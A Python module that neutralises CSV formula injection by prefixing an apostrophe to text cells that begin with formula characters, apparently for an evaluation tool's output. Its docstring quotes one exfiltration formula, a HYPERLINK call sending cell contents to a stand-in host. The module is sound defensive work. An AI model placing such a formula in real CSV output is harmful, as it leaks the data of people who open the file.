"""CSV cells that a spreadsheet would run as formulas, made inert.

A model's answer (or an item id, a checkpoint name) that starts with `=`, `+`, `-` or `@` — or with a tab or
carriage return, which some spreadsheets skip before looking — is taken as a formula when the CSV is opened in
Excel or LibreOffice (`=HYPERLINK("https://host/?"&A1, …)` sends cells away). Such a text cell gets a leading
apostrophe, the convention spreadsheets show as "this is text" (OWASP's advice for CSV injection). Numbers
stay numbers.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # pandas is imported when a frame is actually written (keeps `--help` light)
    import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """The cell as text that cannot start a formula; anything that is not a string is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy with every text cell (and every column name) neutralised."""
    import pandas as pd

    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column].dtype):
            out[column] = out[column].map(neutralise).astype(object)
    out.columns = [neutralise(c) if isinstance(c, str) else c for c in out.columns]
    return out
